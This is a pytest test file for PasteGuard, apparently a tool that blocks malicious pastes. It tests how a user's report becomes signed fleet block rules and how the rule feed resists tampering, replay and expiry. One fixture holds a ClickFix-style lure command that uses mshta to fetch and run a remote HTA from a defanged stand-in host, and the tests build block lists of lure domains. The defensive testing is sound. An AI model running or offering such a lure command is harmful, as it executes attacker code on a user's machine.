"""From a person's report to the whole fleet: from-report, rules check, sign, and the feed
fetched from a real HTTP server on the loopback interface (good, tampered, stale, expired)."""

from __future__ import annotations

import base64
import contextlib
import http.server
import io
import json
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from app.cli import main
from app.detection import Context, Engine, Level
from app.detection.rules import default_rules_dir
from app.intel.bundle import (
    Bundle,
    BundleError,
    load_private_key,
    new_private_key,
    private_key_pem,
    public_key_text,
    sign_bundle,
    verify_bundle,
)
from app.intel.feed import IntelFeed
from app.intel.rulefile import read_lists
from app.intel.screen import ScreenedEngine

LURE_TEXT = "cmd /c start /min mshta hxxps://payload.lure-cdn.example/v.hta"
LURE_SHA = "5" * 64


def report(**changes: object) -> dict[str, object]:
    """A report as ui/warning/report.py writes it for a stopped paste."""
    document: dict[str, object] = {
        "report": "pasteguard",
        "version": 1,
        "kind": "reported",
        "level": "malicious",
        "time": "2026-12-05T10:00:00.000Z",
        "host": "pc-042",
        "source": "https://verify-human.example/captcha?id=7",
        "target": "run_dialog",
        "sha256": LURE_SHA,
        "text": LURE_TEXT,
        "indicators": [
            {"kind": "url", "value": "https://payload.lure-cdn.example/v.hta", "display": "x"},
            {"kind": "domain", "value": "payload.lure-cdn.example", "display": "x"},
            {"kind": "url", "value": "http://127.0.0.1:8080/x", "display": "x"},
        ],
    }
    document.update(changes)
    return document


def cli(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        status = main(list(args))
    return status, out.getvalue()


def test_a_report_becomes_a_rule_file_that_rules_check_accepts_and_the_guard_uses(
    tmp_path: Path,
) -> None:
    path = tmp_path / "report-20261205.json"
    path.write_text(json.dumps(report()), encoding="utf-8")
    rules_dir = tmp_path / "fleet-rules"
    rules_dir.mkdir()
    status, said = cli("rules", "from-report", str(path), "-o", str(rules_dir / "reported.yaml"))
    assert status == 0, said
    status, said = cli("rules", "check", str(rules_dir))
    assert status == 0, said
    assert said.strip().endswith("1 rules loaded, 3 list entries, 0 errors")
    # what the guard builds from a rules_dir: the engine with the rule, the lists in front
    engine = Engine(rule_paths=[default_rules_dir(), rules_dir], strict=True)
    lists, errors = read_lists([rules_dir])
    assert errors == []
    assert lists.block_hosts == {"verify-human.example", "payload.lure-cdn.example"}
    screen = ScreenedEngine(engine, lists)
    other = "Read the notes at https://cdn.payload.lure-cdn.example/readme"
    assert engine.analyze(other).level is Level.MALICIOUS  # the pattern rule, any engine
    assert any(r.startswith("PG-FLEET-") for r in engine.analyze(other).rule_ids)
    assert engine.analyze("see https://payload.lure-cdn.example.org/").level < Level.MALICIOUS
    copied = screen.analyze("hello", Context(source="https://verify-human.example/other"))
    assert copied.level is Level.MALICIOUS and copied.rule_ids[0] == "PG-INTEL-BLOCK-HOST"
    # loopback URLs in a report are never blocked for the fleet
    assert "127.0.0.1" not in (rules_dir / "reported.yaml").read_text()


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ({"hello": 1}, "not a PasteGuard report"),
        (report(version=2), "version 2 is not known"),
        (report(source=None, indicators=[], sha256=None), "nothing to block"),
    ],
)
def test_from_report_refuses_what_it_cannot_use(
    tmp_path: Path, document: dict[str, object], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "r.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    status, _ = cli("rules", "from-report", str(path))
    assert status == 2
    assert message in capsys.readouterr().err


def test_rules_check_reports_bad_lists_with_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text("rules: []\nlists:\n  block_hosts: ['https://x.example/']\n", encoding="utf-8")
    status, said = cli("rules", "check", str(path))
    assert status == 1
    assert f"{path}:3: lists.block_hosts[0]" in said


# -- signing and verifying -------------------------------------------------------------------

RULES = "lists:\n  block_hosts: [feed-blocked.example]\nrules: []\n"
NOW = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)


def raw_public(key: object) -> bytes:
    return base64.b64decode(public_key_text(key))  # type: ignore[arg-type]


def test_keygen_and_sign_make_a_bundle_the_policy_key_verifies(tmp_path: Path) -> None:
    status, said = cli("rules", "keygen", str(tmp_path))
    assert status == 0
    pem = tmp_path / "feed-signing.pem"
    assert pem.stat().st_mode & 0o077 == 0  # the private key is private
    public = (tmp_path / "feed-signing.pub").read_text().strip()
    assert public in said
    rules = tmp_path / "blocked.yaml"
    rules.write_text(RULES, encoding="utf-8")
    status, said = cli(
        "rules",
        "sign",
        str(rules),
        "--key",
        str(pem),
        "-o",
        str(tmp_path / "b.json"),
        "--serial",
        "7",
    )
    assert status == 0, said
    bundle = verify_bundle(
        (tmp_path / "b.json").read_bytes(), [base64.b64decode(public)], now=datetime.now(UTC)
    )
    assert bundle.serial == 7 and bundle.files == {"blocked.yaml": RULES}
    # a second keygen into the same folder would orphan the fleet: refused
    assert cli("rules", "keygen", str(tmp_path))[0] == 2
    # a broken rule file is never signed
    broken = tmp_path / "broken.yaml"
    broken.write_text("rules:\n  - id: x\n", encoding="utf-8")
    assert (
        cli("rules", "sign", str(broken), "--key", str(pem), "-o", str(tmp_path / "c.json"))[0] == 2
    )
    assert load_private_key(pem.read_bytes()) is not None


def test_a_key_made_by_openssl_signs_and_its_public_key_is_openssls(tmp_path: Path) -> None:
    """Administrators may make the fleet key with the tool they know: the same PKCS #8 file."""
    import shutil
    import subprocess

    openssl = shutil.which("openssl")
    assert openssl, "openssl (Debian's openssl package) is part of the test machine"
    pem = tmp_path / "fleet.key"
    subprocess.run([openssl, "genpkey", "-algorithm", "ed25519", "-out", str(pem)], check=True)
    der = subprocess.run(
        [openssl, "pkey", "-in", str(pem), "-pubout", "-outform", "DER"],
        check=True,
        capture_output=True,
    ).stdout
    key = load_private_key(pem.read_bytes())
    assert base64.b64decode(public_key_text(key)) == der[-32:]
    data = sign_bundle(key, {"blocked.yaml": RULES}, 3, NOW, NOW + timedelta(days=1))
    assert verify_bundle(data, [der[-32:]], now=NOW).serial == 3
    # and the file keygen writes is one openssl reads as an Ed25519 key
    ours = tmp_path / "ours.key"
    ours.write_bytes(private_key_pem(new_private_key()))
    text = subprocess.run(
        [openssl, "pkey", "-in", str(ours), "-noout", "-text"], check=True, capture_output=True
    ).stdout
    assert b"ED25519" in text.upper()
    for bad in (b"", b"not a key", pem.read_bytes().replace(b"PRIVATE", b"PUBLIC")):
        with pytest.raises(ValueError):
            load_private_key(bad)


def test_tampered_wrong_key_expired_and_stale_bundles_are_refused() -> None:
    key, other = new_private_key(), new_private_key()
    keys = [raw_public(key)]
    good = sign_bundle(key, {"a.yaml": RULES}, 5, NOW, NOW + timedelta(days=1))
    assert verify_bundle(good, keys, now=NOW).serial == 5
    envelope = json.loads(good)
    payload = json.loads(base64.b64decode(envelope["payload"]))
    payload["files"]["a.yaml"] = "rules: []\n"  # the block taken out
    envelope["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    cases = {
        "signature": [
            json.dumps(envelope).encode(),
            sign_bundle(other, {"a.yaml": RULES}, 6, NOW, NOW + timedelta(days=1)),
        ],
        "expired": [good],
        "stale": [good],
        "format": [b"{}", b"\xff\xfe", b'{"format": "pasteguard-bundle"}'],
    }
    for reason, datas in cases.items():
        for data in datas:
            with pytest.raises(BundleError) as caught:
                verify_bundle(
                    data,
                    keys,
                    now=NOW + timedelta(days=2) if reason == "expired" else NOW,
                    newer_than=5 if reason == "stale" else None,
                )
            assert caught.value.reason == reason, (reason, str(caught.value))


# -- the feed over real HTTP on loopback --------------------------------------------------------


class FeedServer:
    """Serves whatever bytes `body` holds at /bundle.json; `status` other than 200 fails."""

    def __init__(self) -> None:
        self.body = b""
        self.status = 200
        self.hits = 0
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.hits += 1
                self.send_response(outer.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(outer.body)))
                self.end_headers()
                self.wfile.write(outer.body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/bundle.json"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def server() -> Iterator[FeedServer]:
    s = FeedServer()
    try:
        yield s
    finally:
        s.close()


class Guard:
    """What the guard does with a feed update: rebuild the screen from the bundle's files."""

    def __init__(self) -> None:
        self.screen = ScreenedEngine(Engine(strict=True))
        self.updates: list[int] = []

    def on_update(self, bundle: Bundle, paths: list[Path]) -> None:
        lists, errors = read_lists(paths)
        assert errors == []
        self.screen.lists = lists
        self.updates.append(bundle.serial)

    def blocks(self) -> bool:
        verdict = self.screen.analyze("hi", Context(source="https://feed-blocked.example/"))
        return verdict.level is Level.MALICIOUS


def test_the_feed_keeps_the_good_bundle_through_every_failure(
    server: FeedServer, tmp_path: Path
) -> None:
    key = new_private_key()
    clock = [NOW]
    guard = Guard()
    results: list[str] = []
    feed = IntelFeed(
        server.url,
        [raw_public(key)],
        tmp_path / "intel",
        guard.on_update,
        now=lambda: clock[0],
        on_result=lambda result, error, bundle: results.append(result),
    )
    assert not guard.blocks()
    server.body = sign_bundle(key, {"fleet.yaml": RULES}, 10, NOW, NOW + timedelta(days=30))
    assert feed.refresh() == "updated" and guard.blocks()
    assert feed.refresh() == "unchanged"
    # tampered: the block removed, signature left as it was
    envelope = json.loads(server.body)
    payload = json.loads(base64.b64decode(envelope["payload"]))
    payload["files"]["fleet.yaml"] = "rules: []\n"
    payload["serial"] = 11
    envelope["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    server.body = json.dumps(envelope).encode()
    assert feed.refresh() == "signature" and guard.blocks()
    # stale: an older, validly signed bundle without the block (a replay)
    server.body = sign_bundle(key, {"fleet.yaml": "rules: []\n"}, 9, NOW, NOW + timedelta(days=30))
    assert feed.refresh() == "stale" and guard.blocks()
    # the server is down, then answers an error page
    server.status = 503
    server.body = b"<html>maintenance</html>"
    assert feed.refresh() == "network" and guard.blocks()
    server.close()
    assert feed.refresh() == "network" and guard.blocks()
    assert guard.updates == [10]
    assert results == ["updated", "unchanged", "signature", "stale", "network", "network"]
    assert feed.status.serial == 10 and feed.status.last_result == "network"

    # the next start: the kept bundle is verified again and used before any fetch
    again = Guard()
    restarted = IntelFeed(
        server.url, [raw_public(key)], tmp_path / "intel", again.on_update, now=lambda: clock[0]
    )
    assert restarted.load_kept() is not None and again.blocks()
    # ...unless it has expired since, or the policy's key changed
    later = Guard()
    expired = IntelFeed(
        server.url,
        [raw_public(key)],
        tmp_path / "intel",
        later.on_update,
        now=lambda: NOW + timedelta(days=31),
    )
    assert expired.load_kept() is None and not later.blocks()
    rekeyed = IntelFeed(
        server.url,
        [raw_public(new_private_key())],
        tmp_path / "intel",
        later.on_update,
        now=lambda: clock[0],
    )
    assert rekeyed.load_kept() is None and not later.blocks()


def test_a_newer_bundle_replaces_the_old_one_and_its_files(
    server: FeedServer, tmp_path: Path
) -> None:
    key = new_private_key()
    guard = Guard()
    feed = IntelFeed(
        server.url, [raw_public(key)], tmp_path / "intel", guard.on_update, now=lambda: NOW
    )
    server.body = sign_bundle(key, {"fleet.yaml": RULES}, 1, NOW, NOW + timedelta(days=1))
    assert feed.refresh() == "updated" and guard.blocks()
    server.body = sign_bundle(key, {"other.yaml": "rules: []\n"}, 2, NOW, NOW + timedelta(days=1))
    assert feed.refresh() == "updated" and not guard.blocks()  # an administrator lifted it
    assert [p.name for p in (tmp_path / "intel").iterdir() if p.is_dir()] == ["rules-2"]


def test_the_schedule_runs_off_the_calling_thread_and_stops(
    server: FeedServer, tmp_path: Path
) -> None:
    key = new_private_key()
    server.body = sign_bundle(key, {"fleet.yaml": RULES}, 3, NOW, NOW + timedelta(days=1))
    guard = Guard()
    feed = IntelFeed(
        server.url, [raw_public(key)], tmp_path / "intel", guard.on_update, now=lambda: NOW
    )
    stop = threading.Event()
    thread = threading.Thread(target=feed.serve, args=(stop, 0.05))
    thread.start()
    try:
        deadline = 200
        while server.hits < 3 and deadline:
            stop.wait(0.05)
            deadline -= 1
        assert server.hits >= 3 and guard.blocks()
    finally:
        stop.set()
        thread.join(timeout=5)
    assert not thread.is_alive()
    assert guard.updates == [3]


def test_a_bundle_reusing_a_built_in_rule_id_is_never_signed() -> None:
    """The guard loads bundles beside its own rules: a clash would leave the bundle unused."""
    clash = (
        "rules:\n  - id: PG-RAT-SCRIPTED-INSTALL\n    title: x\n    explanation: x\n"
        "    technique: T1204.004\n    weight: 10\n    match: {any: ['zzz']}\n"
    )
    with pytest.raises(ValueError, match="duplicate rule id PG-RAT-SCRIPTED-INSTALL"):
        sign_bundle(new_private_key(), {"clash.yaml": clash}, 1, NOW, NOW + timedelta(days=1))
